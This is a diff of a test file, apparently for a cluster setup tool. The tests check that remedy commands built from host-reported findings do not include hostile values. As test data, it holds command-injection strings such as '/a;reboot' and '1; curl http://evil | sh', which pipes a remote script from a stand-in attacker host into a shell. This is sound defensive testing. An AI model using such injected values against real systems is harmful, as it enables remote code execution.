@@ -23,14 +23,14 @@ it('tells nobody to run what a host sends with a finding', () => {
     findings: [
       { ...finding, id: 'swap-off' },
       { ...finding, id: 'unheard-of' },
-      { ...finding, id: 'other-source', values: { files: ['/a;reboot', '/etc/apt/sources.list.d/k8s.list'] } },
+      { ...finding, id: 'other-source', values: { path: '/a;reboot', lines: '2,2' } },
       { ...finding, id: 'reboot-required', case: '__proto__' },
     ],
   });
   const [swap, unknown, source, reboot] = findings;
   expect(swap).toMatchObject({ command: 'sudo swapoff -a', seen: local });
   expect(unknown).toMatchObject({ command: '', needed: { en: '' }, remedy: { en: '' } });
-  expect(source?.command).toBe('sudo rm /etc/apt/sources.list.d/k8s.list');
+  expect(source?.command).toBe('sudo sed -i 2,2s/^/#/ PATH');
   expect(reboot?.command).toBe('sudo systemctl reboot');
   expect(JSON.stringify(findings.map(({ seen: _, ...rest }) => rest))).not.toContain('evil');
 });
@@ -42,8 +42,8 @@ it('tells nobody to run what a host sends with a diagnosis', () => {
     hostile({ diagnosis: { ...texts, id, step: null, since, evidence: [], values, triesLeft: 1 } }).diagnosis;
   for (const id of ['node-exists', 'unknown', 'unheard-of']) expect(JSON.stringify(said(id))).not.toContain('evil');
   expect(said('unheard-of')).toMatchObject({ id: 'unknown', command: 'muster support-bundle node02' });
-  expect(said('apt-lock-held', { pid: '1; curl http://evil | sh' })).toMatchObject({
-    command: 'ps -fp PID',
+  expect(said('sources-malformed', { number: '1; curl http://evil | sh', path: '/etc/a.list' })).toMatchObject({
+    command: 'sed -i NUMBERs/^/#/ /etc/a.list',
     where: 'host',
   });
   expect(said('ca-pin-mismatch', { endpoint: 'evil:6443' })?.command).not.toContain('evil');
